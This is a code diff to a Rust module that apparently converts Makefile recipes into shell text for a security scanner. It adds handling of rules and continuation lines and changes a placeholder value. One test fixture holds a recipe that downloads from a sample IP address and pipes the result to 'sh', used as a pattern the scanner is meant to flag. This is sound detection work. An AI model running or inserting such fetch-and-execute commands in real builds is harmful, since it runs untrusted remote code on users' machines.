@@ -25,20 +25,32 @@ pub const FRONT_END: FrontEnd = FrontEnd {
 const FOLLOWED_VARIABLES: usize = 256;
 const LONGEST_VALUE: usize = 1_024;
 
+/// What stands for what make would put in and cannot be told: a variable that nothing sets.
+const UNTOLD: &str = "${MAKEFILE_VALUE}";
+
 /// Lowers the recipes.
 pub fn lower(world: &mut World, text: &str) -> Value {
     let mut variables: BTreeMap<&str, &str> = BTreeMap::new();
     let mut lines = (1..).zip(text.lines());
+    let mut in_rule = false;
     while let Some((number, line)) = lines.next() {
         if !world.burn(2) {
             break;
         }
-        let Some(recipe) = line.strip_prefix('\t') else {
-            if let Some((name, value)) = assignment(line)
-                && variables.len() < FOLLOWED_VARIABLES
-                && value.len() <= LONGEST_VALUE
-            {
-                variables.insert(name, value);
+        let Some(recipe) = line.strip_prefix('\t').filter(|_| in_rule) else {
+            // A list goes on with a tab as well; only behind a rule that is a recipe.
+            let mut last = line;
+            while last.ends_with('\\') {
+                last = lines.next().map_or("", |(_, line)| line);
+            }
+            match assignment(line) {
+                Some((name, value))
+                    if variables.len() < FOLLOWED_VARIABLES && value.len() <= LONGEST_VALUE =>
+                {
+                    variables.insert(name, value);
+                }
+                _ if line.trim().is_empty() || line.starts_with('#') => {}
+                _ => in_rule = line.contains(':'),
             }
             continue;
         };
@@ -65,7 +77,7 @@ fn assignment(line: &str) -> Option<(&str, &str)> {
     let name = name.trim_end_matches([':', '?', '+', ' ', '\t']).trim();
     let name = name.strip_prefix("export ").unwrap_or(name);
     let plain = !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
-    (plain && !value.contains('$')).then(|| (name, value.trim()))
+    (plain && !value.contains('$') && !value.ends_with('\\')).then(|| (name, value.trim()))
 }
 
 /// What make would hand to the shell: known variables replaced, others left to the environment.
@@ -84,7 +96,7 @@ fn expand(recipe: &str, variables: &BTreeMap<&str, &str>) -> String {
             }
             _ => {
                 // An automatic variable: a name of a file.
-                out.push_str("${_}");
+                out.push_str(UNTOLD);
                 rest = after
                     .char_indices()
                     .nth(1)
@@ -101,7 +113,7 @@ fn expand(recipe: &str, variables: &BTreeMap<&str, &str>) -> String {
             (None, None) if name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') => {
                 out.push_str(&format!("${{{name}}}"));
             }
-            (None, None) => out.push_str("${_}"),
+            (None, None) => out.push_str(UNTOLD),
         }
         rest = next;
     }
@@ -119,12 +131,13 @@ mod tests {
         let variables = BTreeMap::from([("URL", "http://192.0.2.1")]);
         assert_eq!(
             expand("curl $(URL)/x > $@; echo $$HOME ${CC}", &variables),
-            "curl http://192.0.2.1/x > ${_}; echo $HOME ${CC}"
+            "curl http://192.0.2.1/x > ${MAKEFILE_VALUE}; echo $HOME ${CC}"
         );
         let found = acts(
             Language::Makefile,
             "A := http://192.0.2.1\nall: x\n\t@curl -s $(A)/x \\\n\t  | sh\n",
         );
+        assert!(acts(Language::Makefile, "FILES = \\\n\ta.pdf \\\n\tb.pdf\n").is_empty());
         assert!(
             found
                 .iter()
